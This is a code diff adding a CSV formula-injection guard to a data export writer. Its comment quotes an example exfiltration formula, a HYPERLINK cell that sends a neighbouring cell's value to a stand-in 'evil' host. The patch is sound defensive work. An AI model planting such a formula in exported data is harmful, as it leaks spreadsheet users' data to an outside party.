@@ -29,6 +29,23 @@ export async function writeCsv(fd: number, opts: CsvOptions, rows: AsyncIterable
   return count;
 }
 
-// RFC 4180 line ends; a value starting with = + - @ is quoted as is (formula injection is the reader's concern in CSV,
-// and changing values would break "masked exactly as the preview said").
-const CSV_OPTS = { record_delimiter: "\r\n" } as const;
+/**
+ * CSV injection (OWASP): a spreadsheet runs a cell that starts with = @ + - (or a tab or CR before one) as a formula, and
+ * warehouse values come from marketplace users (a name like `=HYPERLINK("https://evil/?"&A1)`). Such a cell gets a
+ * leading `'`, which spreadsheets show as text. Numbers and phone-like text starting with + or - (`+1 415 555 0123`,
+ * `-15000`) stay as they are, so ordinary values are never changed; masked values never start with these characters
+ * except the masked phone's `+•…`, which is phone-like.
+ */
+export function neutraliseFormula(value: string): string {
+  const c = value.charCodeAt(0);
+  // = @ TAB CR
+  if (c === 61 || c === 64 || c === 9 || c === 13) return `'${value}`;
+  // + -
+  if ((c === 43 || c === 45) && !PHONE_OR_NUMBER.test(value)) return `'${value}`;
+  return value;
+}
+
+const PHONE_OR_NUMBER = /^[+-][0-9\u2022 ().-]*$/;
+
+// RFC 4180 line ends.
+const CSV_OPTS = { record_delimiter: "\r\n", cast: { string: neutraliseFormula } } as const;
